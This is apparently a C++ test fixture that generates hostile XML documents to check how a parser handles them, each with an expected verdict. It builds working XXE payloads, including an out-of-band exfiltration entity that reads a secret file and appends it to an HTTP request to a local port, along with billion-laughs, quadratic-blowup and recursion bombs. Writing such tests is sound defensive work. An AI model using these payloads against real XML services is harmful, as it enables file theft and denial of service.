#include "tests/hostile/kinds.h"

namespace perfrelay::hostile {

namespace {

// `text` under a document type with this internal subset.
std::string with(const std::string& subset, const std::string& text) {
    return "<!DOCTYPE a [" + subset + "]>" + text;
}

std::string entity(const std::string& name, const std::string& value) {
    return "<!ENTITY " + name + " \"" + value + "\">";
}

// e0 is `seed`; each e<i> is `fan` times the one before.
std::string laughs(const std::string& seed, int levels, std::size_t fan) {
    std::string subset = entity("e0", seed);
    for (int i = 1; i < levels; ++i) {
        subset +=
            entity("e" + std::to_string(i), repeated("&e" + std::to_string(i - 1) + ";", fan));
    }
    return subset;
}

// Each refers to the next, the last to none.
std::string chain(int links, const std::string& percent) {
    const std::string sign = percent.empty() ? "&" : "&#37;";
    std::string subset;
    for (int i = links - 1; i >= 0; --i) {
        const std::string name = percent + "e" + std::to_string(i);
        const std::string next = sign + "e" + std::to_string(i + 1) + ";";
        subset += entity(name, i == links - 1 ? "" : next);
    }
    return subset;
}

std::vector<Kind> external_kinds(const std::string& secret, int port) {
    using enum Verdict;
    const std::string file = "file://" + secret;
    const std::string http = "http://127.0.0.1:" + std::to_string(port) + "/x";
    std::vector<Kind> kinds;
    // Nothing outside the document is read: references stay references.
    for (const auto& [suffix, id] :
         {std::pair{"path", secret}, {"file_uri", file}, {"http", http}}) {
        const std::string in = suffix;
        const std::string external = "SYSTEM '" + id + "'";
        const auto add = [&](const std::string& name, Verdict verdict, const std::string& text) {
            kinds.push_back(kind(name + "_" + in, verdict, text));
        };
        add("external_entity", loaded, with("<!ENTITY x " + external + ">", "<a>&x;</a>"));
        add("external_entity_public", loaded,
            with("<!ENTITY x PUBLIC '-//X' '" + id + "'>", "<a>&x;</a>"));
        add("external_entity_in_an_entity", loaded,
            with("<!ENTITY x " + external + "><!ENTITY y '1&x;2'>", "<a>&y;</a>"));
        add("external_entity_in_an_attribute", malformed,
            with("<!ENTITY x " + external + ">", "<a b='&x;'/>"));
        add("external_parameter_entity", loaded,
            with("<!ENTITY % x " + external + ">%x;", "<a>&y;</a>"));
        add("external_subset", loaded, "<!DOCTYPE a " + external + "><a>&x;</a>");
        add("external_subset_and_internal", loaded,
            "<!DOCTYPE a " + external + " [<!ENTITY y 'z'>]><a>&y;</a>");
        add("exfiltration", malformed,  // 4.1, well-formedness constraint: PEs in Internal Subset

            with("<!ENTITY % file SYSTEM '" + secret + "'><!ENTITY % all \"<!ENTITY send SYSTEM '" +
                     http + "?%file;'>\">%all;",
                 "<a>&send;</a>"));
        add("unparsed_entity", loaded,
            with("<!NOTATION n " + external + "><!ENTITY x " + external + " NDATA n>", "<a/>"));
        add("xinclude", loaded,
            "<a xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='" + id + "'/></a>");
        add("schema_location", loaded,
            "<a xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:noNamespaceSchemaLocation='" +
                id + "'/>");
        add("stylesheet", loaded, "<?xml-stylesheet type='text/xsl' href='" + id + "'?><a/>");
    }
    return kinds;
}

}  // namespace

std::vector<Kind> entity_kinds(const std::string& secret, int port) {
    using enum Verdict;
    std::vector<Kind> kinds = {
        // 2.8, 4.2: declarations
        kind("doctype_after_the_root", malformed, "<a/><!DOCTYPE a>"),
        kind("doctype_twice", malformed, "<!DOCTYPE a><!DOCTYPE a><a/>"),
        kind("doctype_without_a_name", malformed, "<!DOCTYPE><a/>"),
        kind("doctype_in_lower_case", malformed, "<!doctype a><a/>"),
        kind("doctype_without_a_quote", malformed, "<!DOCTYPE a SYSTEM a.dtd><a/>"),
        kind("doctype_public_alone", malformed, "<!DOCTYPE a PUBLIC '-//X'><a/>"),
        kind("doctype_with_a_bad_public_id", malformed, "<!DOCTYPE a PUBLIC '<>' 'b'><a/>"),
        kind("doctype_of_another_root", loaded, "<!DOCTYPE b><a/>"),
        kind("subset_unclosed", malformed, "<!DOCTYPE a [<a/>"),
        kind("subset_with_rubbish", malformed, with("rubbish", "<a/>")),
        kind("subset_with_an_element", malformed, with("<b/>", "<a/>")),
        kind("subset_with_a_conditional_section", malformed, with("<![INCLUDE[]]>", "<a/>")),
        kind("subset_hides_its_end", loaded, with(entity("e", "]>") + "<!-- ]> -->", "<a>&e;</a>")),
        kind("entity_without_a_value", malformed, with("<!ENTITY e>", "<a/>")),
        kind("entity_with_a_bare_ampersand", malformed, with(entity("e", "a & b"), "<a/>")),
        kind("entity_with_a_percent_in_its_value", malformed,
             with(entity("e", "50 % off"), "<a/>")),
        kind("entity_with_a_control", malformed, with(entity("e", "&#1;"), "<a/>")),
        kind("entity_declared_twice", loaded,
             with(entity("e", "1") + entity("e", "2"), "<a>&e;</a>")),
        kind("entity_redefines_lt_wrongly", loaded, with(entity("lt", "<"), "<a>&lt;</a>")),
        kind("entity_redefines_amp", loaded, with(entity("amp", "&#38;#38;"), "<a>&amp;</a>")),
        kind("parameter_entity_in_a_declaration", malformed,
             with("<!ENTITY % p 'x'><!ENTITY e '%p;'>", "<a/>")),
        kind("parameter_entity_in_content", loaded, with("<!ENTITY % p 'x'>", "<a>%p;</a>")),
        kind("parameter_entity_undeclared", loaded, with("%p;", "<a/>")),
        kind("element_declared_twice", loaded, with("<!ELEMENT a ANY><!ELEMENT a ANY>", "<a/>")),
        kind("content_model_unclosed", malformed, with("<!ELEMENT a (b>", "<a/>")),
        kind("content_model_mixes_separators", malformed, with("<!ELEMENT a (b|c,d)>", "<a/>")),
        kind("invalid_but_well_formed", loaded, with("<!ELEMENT a EMPTY>", "<a>text<b/></a>")),
        kind("attribute_list_unclosed", malformed, with("<!ATTLIST a b CDATA", "<a/>")),
        kind("attribute_default_with_less_than", malformed,
             with("<!ATTLIST a b CDATA '<'>", "<a/>")),
        kind("attribute_default_undeclared_entity", malformed,
             with("<!ATTLIST a b CDATA '&e;'>", "<a/>")),
        kind("attribute_tokens_normalised", loaded,
             with("<!ATTLIST a b NMTOKENS #IMPLIED>", "<a b='  x \n y  '/>")),

        // 4.1, 4.3.2: references
        kind("entity_undeclared", malformed, "<a>&e;</a>"),
        kind("entity_undeclared_in_an_attribute", malformed, "<a b='&e;'/>"),
        kind("entity_undeclared_standalone", malformed,
             "<?xml version='1.0' standalone='yes'?><!DOCTYPE a SYSTEM 'b'><a>&e;</a>"),
        kind("entity_maybe_declared_elsewhere", loaded, "<!DOCTYPE a SYSTEM 'b'><a>&e;</a>"),
        kind("entity_maybe_declared_elsewhere_in_an_attribute", refused,
             "<!DOCTYPE a SYSTEM 'b'><a b='&e;'/>"),
        kind("entity_of_another_case", malformed, with(entity("e", "x"), "<a>&E;</a>")),
        kind("entity_unparsed_referred_to", malformed,
             with("<!NOTATION n SYSTEM 'n'><!ENTITY x SYSTEM 'x' NDATA n>", "<a>&x;</a>")),
        kind("entity_opens_an_element", malformed, with(entity("e", "<b>"), "<a>&e;</b></a>")),
        kind("entity_closes_an_element", malformed, with(entity("e", "</a>"), "<a>&e;")),
        kind("entity_holds_half_a_tag", malformed, with(entity("e", "<b"), "<a>&e;/></a>")),
        kind("entity_holds_half_a_reference", malformed,
             with(entity("e", "&#38;"), "<a>&e;amp;</a>")),
        kind("entity_with_less_than_in_an_attribute", malformed,
             with(entity("e", "&#60;"), "<a b='&e;'/>")),
        kind("entity_as_the_root", malformed, with(entity("e", "<a/>"), "&e;")),
        kind("entity_in_a_name", malformed, with(entity("e", "b"), "<a&e;/>")),
        kind("entity_balanced", loaded, with(entity("e", "<b>1</b>"), "<a>&e;&e;</a>")),

        // Recursion
        kind("recursion_itself", malformed, with(entity("e", "&e;"), "<a>&e;</a>")),
        kind("recursion_of_two", malformed,
             with(entity("e", "&f;") + entity("f", "&e;"), "<a>&e;</a>")),
        kind("recursion_in_an_attribute", malformed, with(entity("e", "&e;"), "<a b='&e;'/>")),
        kind("recursion_in_a_default", malformed,
             with(entity("e", "&f;") + entity("f", "&e;") + "<!ATTLIST a b CDATA '&e;'>", "<a/>")),
        kind("recursion_unused", loaded, with(entity("e", "&e;"), "<a/>")),
        kind("recursion_of_parameter_entities", malformed,
             with("<!ENTITY % p '&#37;q;'><!ENTITY % q '&#37;p;'>%p;", "<a/>")),

        // Bombs
        {"billion_laughs", refused,
         [] { return with(laughs("ha ha ha ", 10, 10), "<a>&e9;</a>"); }},
        {"billion_laughs_in_an_attribute", refused,
         [] { return with(laughs("ha ha ha ", 10, 10), "<a b='&e9;'/>"); }},
        {"billion_laughs_in_a_default", refused,
         [] { return with(laughs("ha ha ha ", 10, 10) + "<!ATTLIST a b CDATA '&e9;'>", "<a/>"); }},
        {"billion_empty_laughs", refused, [] { return with(laughs("", 11, 10), "<a>&e10;</a>"); }},
        {"billion_laughing_elements", refused,
         [] { return with(laughs("<b/>", 10, 10), "<a>&e9;</a>"); }},
        {"billion_laughs_unused", loaded, [] { return with(laughs("ha ha ha ", 10, 10), "<a/>"); }},
        {"a_thousand_laughs", loaded, [] { return with(laughs("ha", 4, 10), "<a>&e3;</a>"); }},
        {"quadratic_blowup", refused,
         [] {
             return with(entity("e", std::string(200'000, 'x')),
                         "<a>" + repeated("&e;", 70'000) + "</a>");
         }},
        {"quadratic_blowup_in_attributes", refused,
         [] {
             return with(entity("e", std::string(200'000, 'x')),
                         "<a>" + repeated("<b c='&e;'/>", 20'000) + "</a>");
         }},
        {"parameter_entity_bomb", refused,
         [] {
             std::string subset = "<!ENTITY % p0 '<!--" + std::string(1000, 'x') + "-->'>";
             for (int i = 1; i < 10; ++i) {
                 subset += "<!ENTITY % p" + std::to_string(i) + " '" +
                           repeated("&#37;p" + std::to_string(i - 1) + ";", 10) + "'>";
             }
             return with(subset + "%p9;", "<a/>");
         }},
        {"default_attribute_bomb", refused,
         [] {
             return with("<!ATTLIST b c CDATA '" + std::string(100'000, 'x') + "'>",
                         "<a>" + repeated("<b/>", 20'000) + "</a>");
         }},
        {"empty_default_attribute_bomb", refused,
         [] {
             return with("<!ATTLIST b" + numbered(" c", 3000, " CDATA ''") + ">",
                         "<a>" + repeated("<b/>", 3000) + "</a>");
         }},
        {"chain_of_500", loaded, [] { return with(chain(500, ""), "<a>&e0;</a>"); }},
        {"chain_of_100000", refused, [] { return with(chain(100'000, ""), "<a>&e0;</a>"); }},
        {"chain_of_100000_in_an_attribute", refused,
         [] { return with(chain(100'000, ""), "<a b='&e0;'/>"); }},
        {"chain_of_100000_parameter_entities", refused,
         [] { return with(chain(100'000, "% ") + "%e0;", "<a/>"); }},
        {"entities_20000", loaded,
         [] { return with(numbered("<!ENTITY e", 20'000, " 'x'>"), "<a>&e0;&e19999;</a>"); }},
        {"default_attributes_10000", loaded,
         [] { return with("<!ATTLIST a" + numbered(" c", 10'000, " CDATA 'x'") + ">", "<a/>"); }},
        {"content_model_nested_100000", loaded,
         [] {
             return with(
                 "<!ELEMENT a " + std::string(100'000, '(') + "b" + std::string(100'000, ')') + ">",
                 "<a/>");
         }},
        {"content_model_of_100000_names", loaded,
         [] { return with("<!ELEMENT a (b" + repeated("|b", 100'000) + ")>", "<a/>"); }},
        {"entity_of_3_megabytes", loaded,
         [] { return with(entity("e", std::string(3'000'000, 'x')), "<a>&e;</a>"); }},
    };
    for (Kind& external : external_kinds(secret, port))
        kinds.push_back(std::move(external));
    return kinds;
}

}  // namespace perfrelay::hostile
